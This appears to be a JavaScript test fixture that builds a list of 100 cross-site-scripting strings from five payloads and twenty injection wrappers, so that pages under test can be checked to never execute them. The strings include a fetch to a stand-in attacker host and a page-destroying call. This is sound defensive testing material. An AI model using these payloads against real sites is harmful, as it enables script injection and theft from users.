/** What is tried to be executed by it; the pages under test must never have it. */
const PAYLOADS = [
  "alert(1)",
  "window.pwned=1",
  "fetch('//evil.example')",
  "document.body.remove()",
  "eval('window.pwned=1')",
];

/** The ways in which a text is tried to be made a script. @type {((payload: string) => string)[]} */
const WAYS = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><img src=x onerror=${script}>`,
  (script) => `<svg/onload=${script}>`,
  (script) => `<math><mtext></p><img src onerror=${script}></math>`,
  (script) => `javascript:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `\${${script}}`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `";${script};//`,
  (script) => `');${script};('`,
  (script) => `</title><script>${script}</script>`,
  (script) => `--><script>${script}</script><!--`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<style>@import '${script}'</style>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `]]><script>${script}</script>`,
  (script) => `\u2028${script}\u2029`,
  (script) => `1;${script}`,
];

/** A hundred texts that a page must never take for a script. */
export const HOSTILE = WAYS.flatMap((way) => PAYLOADS.map(way));
